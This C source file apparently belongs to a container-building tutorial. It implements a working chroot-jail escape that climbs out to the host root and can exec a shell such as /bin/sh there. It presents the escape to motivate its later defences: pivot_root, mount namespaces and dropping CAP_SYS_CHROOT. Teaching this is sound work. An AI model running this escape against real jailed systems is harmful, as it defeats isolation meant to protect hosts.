/*
 * escape: break out of a chroot jail. Root inside a chroot is still root,
 * and chroot(2) only moves where "/" is for path lookups: this program
 * uses that to get back to the real root. It is why step 05 uses
 * pivot_root, and why step 02 gives the jail its own mount namespace.
 *
 * Read: chroot(2) (NOTES: "This call does not change the current working
 *       directory... if the caller is privileged it can escape"),
 *       path_resolution(7) (how ".." stops at the root, and only there).
 * Try:  bin/jail /tmp/j bin/escape /bin/ls
 *       sudo bin/jail /tmp/j --run /bin/escape
 *       sudo bin/jail /tmp/j --run /bin/escape /bin/sh   (a shell outside)
 * See:  the jail's / holds bin lib lib64 usr; after the escape / is the
 *       host's, with etc, proc, home and the host's hostname.
 *
 * The trick, with what the kernel does at each line:
 *   1. mkdir d; chroot("d"): our root is now d, but our working directory
 *      stays where it was, which is *above* the new root;
 *   2. chdir("..") again and again: the kernel stops ".." only when the
 *      directory it starts from is our root, and we are never in d, so we
 *      climb to the real root (where ".." is "." itself);
 *   3. chroot("."): make the real root our root again.
 * A jail that a process cannot leave must take away CAP_SYS_CHROOT (step
 * 06), or give it a mount namespace and pivot_root so that no path leads
 * back to the old root at all (steps 02 and 05).
 */
#include "ct.h"

#include <dirent.h>
#include <errno.h>
#include <getopt.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static const char usage[] =
    "usage: escape [--trace] [PROGRAM [ARG...]]\n"
    "\n"
    "Run as root inside a chroot: get out of it, then run PROGRAM (a path\n"
    "on the real root), or with none print the real root's entries and\n"
    "/etc/hostname.\n"
    "\n"
    "  --trace   print each kernel call and the shell command doing the same\n"
    "  --help    print this help\n";

/* Print the names in directory `dir`, sorted, on one line. */
static void
list_dir(const char *label, const char *dir)
{
    struct dirent **names;
    int n = scandir(dir, &names, NULL, alphasort);

    if (n == -1)
        die_errno("scandir '%s'", dir);
    printf("%s:", label);
    for (int i = 0; i < n; i++) {
        if (names[i]->d_name[0] != '.')
            printf(" %s", names[i]->d_name);
        free(names[i]);
    }
    printf("\n");
    free(names);
}

/* Two directories are the same one when device and inode match. */
static bool
same_dir(const char *a, const char *b)
{
    struct stat sa, sb;

    if (stat(a, &sa) == -1 || stat(b, &sb) == -1)
        die_errno("stat '%s' and '%s'", a, b);
    return sa.st_dev == sb.st_dev && sa.st_ino == sb.st_ino;
}

static void
escape_chroot(void)
{
    char dir[] = "minictr-escape-XXXXXX";
    int climbs = 0;

    /* Start at the jail's root, so the directory we make is in it. */
    if (chdir("/") == -1)
        die_errno("chdir '/'");

    /* 1. A new root below us; the working directory stays behind. */
    if (!mkdtemp(dir))
        die_errno("mkdir '%s' in the jail", dir);
    /* No shell line: chroot(1) always does the cd we must not do. */
    ct_trace(NULL, "chroot(\"%s\")   (and no chdir)", dir);
    if (chroot(dir) == -1) {
        int err = errno;
        rmdir(dir);
        errno = err;
        die_errno("chroot '%s'", dir);
    }
    /* Relative to the working directory, which is outside our new root:
     * the directory is not needed any more. */
    if (rmdir(dir) == -1)
        warnx_ct("rmdir '%s': %s", dir, ct_errno_name(errno));

    /* 2. Climb. At the real root ".." is the same directory as ".". */
    ct_trace("cd ..   (again and again)",
             "chdir(\"..\") until \".\" == \"..\"");
    while (!same_dir(".", "..")) {
        if (chdir("..") == -1)
            die_errno("chdir '..'");
        if (++climbs > 4096)
            die("still climbing after %d times '..'", climbs);
    }

    /* 3. The real root becomes our root again. */
    ct_trace("chroot .", "chroot(\".\") after %d chdir(\"..\")", climbs);
    if (chroot(".") == -1)
        die_errno("chroot '.'");
    if (chdir("/") == -1)
        die_errno("chdir '/'");
}

int
main(int argc, char **argv)
{
    static const struct option opts[] = {
        {"help", no_argument, NULL, 'h'},
        {"trace", no_argument, NULL, 't'},
        {NULL, 0, NULL, 0},
    };
    char host[256];
    int c;

    ct_prog = "escape";
    while ((c = getopt_long(argc, argv, "+ht", opts, NULL)) != -1) {
        switch (c) {
        case 'h': fputs(usage, stdout); return 0;
        case 't': ct_tracing = true; break;
        default: die_usage("unknown option");
        }
    }

    list_dir("before: / holds", "/");
    escape_chroot();
    list_dir("after:  / holds", "/");
    if (optind < argc) {
        fflush(stdout);
        ct_trace(NULL, "execve(\"%s\", ...)", argv[optind]);
        execvp(argv[optind], argv + optind);
        die_errno("exec '%s' on the real root", argv[optind]);
    }
    if (ct_read_file("/etc/hostname", host, sizeof(host)) >= 0)
        printf("the host's /etc/hostname: %s\n", host);
    return 0;
}
